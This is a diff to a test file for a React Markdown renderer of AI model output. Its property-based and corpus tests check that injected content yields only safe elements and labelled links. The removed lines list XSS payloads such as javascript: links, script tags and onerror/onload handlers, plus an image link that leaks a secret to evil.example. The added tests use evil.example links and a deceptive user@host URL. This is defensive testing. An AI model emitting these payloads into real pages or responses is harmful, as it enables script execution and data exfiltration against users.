@@ -7,6 +7,7 @@ import type { ReactNode } from "react";
 import { afterEach, expect, test } from "vitest";
 import { AgentProvider } from "./agent-provider.tsx";
 import { Markdown } from "./markdown.tsx";
+import { injections } from "./testing/injection-corpus.ts";
 
 afterEach(cleanup);
 
@@ -35,37 +36,53 @@ function show(node: ReactNode): HTMLElement {
   return render(provider).container;
 }
 
-const nasty = fc.oneof(
-  fc.constantFrom(
-    "[x](javascript:alert(1))",
-    "[x](JaVaScript:alert(1))",
-    "[x](data:text/html,hi)",
-    "[x](vbscript:x)",
-    "[x](&#106;avascript:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "<script>alert(1)</script>",
-    '<img src=x onerror="alert(1)">',
-    "![x](https://evil.example/?q=secret)",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "<svg onload=alert(1)>",
-    "<iframe src=//evil.example>",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    "**[x](javascript:1)**",
-    "| [x](javascript:1) | ![y](//evil.example/p) |\n|---|---|\n| a | b |",
-    "[1][2]",
-    "[1, 2]",
-    "[9]",
+const beacon = "https://evil.example";
+const corpus = injections(beacon);
+const allowed = new Set(
+  "DIV P H3 H4 H5 H6 STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE HR BR TABLE THEAD TBODY TR TH TD SECTION A BDI BUTTON SPAN INPUT svg path".split(
+    " ",
   ),
-  fc.string(),
 );
 
-test("whatever a model writes, only harmless elements and web addresses come of it", () => {
-  const allowed = new Set(
-    "DIV P H3 H4 H5 H6 STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE HR BR TABLE THEAD TBODY TR TH TD SECTION A BUTTON SPAN INPUT svg path".split(
-      " ",
-    ),
-  );
+/** Fails for an element or an attribute that runs, fetches or leads anywhere but to the web. */
+function expectHarmless(root: ParentNode): void {
+  for (const element of root.querySelectorAll("*")) {
+    expect(allowed).toContain(element.tagName);
+    for (const { name } of element.attributes) {
+      expect(name).not.toMatch(/^on|^(?:src|srcset|action|formaction|poster|ping|xlink:href)$/);
+    }
+    const href = element.getAttribute("href");
+    if (href === null) continue;
+    expect(href).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i);
+    expect(element.querySelector("a, button")).toBeNull();
+    // Whatever its text claims, it says itself where it leads.
+    const { host } = new URL(href);
+    expect(element.nextElementSibling?.textContent).toContain("not from the documentation");
+    if (element.textContent !== href && host !== "") {
+      expect(element.nextElementSibling?.textContent).toContain(host);
+    }
+  }
+}
+
+test("of every text of the corpus, finished or not, only harmless elements come", () => {
+  for (const text of corpus) {
+    const ends = [text.length, Math.ceil(text.length / 2), Math.ceil(text.length / 3)];
+    for (const end of ends) {
+      const root = show(
+        <Markdown
+          text={text.slice(0, end)}
+          sources={[source(1), source(2)]}
+          isStreaming={end < text.length}
+        />,
+      );
+      expectHarmless(root);
+      cleanup();
+    }
+  }
+});
+
+test("whatever a model puts together, only harmless elements come of it", () => {
+  const nasty = fc.oneof(fc.constantFrom(...corpus), fc.constantFrom("[1][2]", "[9]"), fc.string());
   fc.assert(
     fc.property(fc.array(nasty, { maxLength: 5 }), fc.boolean(), (pieces, isStreaming) => {
       const root = show(
@@ -75,16 +92,43 @@ test("whatever a model writes, only harmless elements and web addresses come of 
           isStreaming={isStreaming}
         />,
       );
-      for (const element of root.querySelectorAll("*")) {
-        expect(allowed).toContain(element.tagName);
-        for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^src/);
-        const href = element.getAttribute("href");
-        if (href !== null) expect(href).toMatch(/^(?:https?:|mailto:)/i);
-      }
+      expectHarmless(root);
       cleanup();
     }),
     { numRuns: 150 },
   );
+});
+
+test("a link to a source of the answer is not marked; one to elsewhere says where it leads", () => {
+  const at = (sourceUrl: string) => ({ ...source(1), sourceUrl });
+  const shown = (text: string, sourceUrl: string) => {
+    const root = show(<Markdown text={text} sources={[at(sourceUrl)]} />);
+    const { textContent } = root;
+    const links = root.querySelectorAll("a").length;
+    cleanup();
+    return `${links} ${textContent}`;
+  };
+  const page = "https://docs.example.com/limits";
+  expect(shown(`[Limits](${page}#burst)`, `${page}/#other`)).toBe("1 Limits");
+  expect(shown("[Limits](/sources/doc_1#a)", "/sources/doc_1#b")).toBe("1 Limits");
+  expect(shown("[Limits](https://docs.example.com/other)", page)).toBe(
+    "1 Limitsdocs.example.com · not from the documentation",
+  );
+  expect(shown("[docs](https://docs.example.com@evil.example/)", page)).toBe(
+    "1 docsevil.example · not from the documentation",
+  );
+  expect(shown("https://evil.example/a", page)).toBe(
+    "1 https://evil.example/anot from the documentation",
+  );
+  expect(shown("[x](javascript:pwned)", "javascript:pwned")).toBe("0 x");
+});
+
+test("a citation stays one when the text says that it is a link", () => {
+  const root = show(
+    <Markdown text={"See [1].\n\n[1]: https://evil.example"} sources={[source(1)]} />,
+  );
+  expect(root.querySelector("button")?.textContent).toBe("1");
+  expect(root.querySelector("p")?.querySelector("a")).toBeNull();
 });
 
 test("an image of elsewhere becomes a link, so that nothing is loaded", () => {
